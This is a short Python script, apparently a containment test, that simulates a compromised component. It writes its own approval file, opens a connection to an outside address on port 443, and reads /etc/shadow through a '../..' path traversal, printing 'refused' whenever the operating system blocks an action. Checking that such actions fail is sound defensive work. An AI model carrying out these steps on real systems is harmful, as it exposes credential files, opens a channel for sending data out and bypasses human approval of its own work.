"""The same component, taken over: approves its own table, and tells somebody outside."""

import os
import socket
import sys


def attempt(action):
    try:
        action()
    except OSError as error:
        print("refused:", error.strerror)


def approve():
    os.makedirs("/artifacts/out/approved", exist_ok=True)
    with open(f"/artifacts/out/approved/{sys.argv[1]}", "w") as file:
        file.write("fine\n")


attempt(approve)
attempt(lambda: socket.create_connection(("203.0.113.7", 443), timeout=2))
attempt(lambda: open("/artifacts/incoming/../../etc/shadow"))
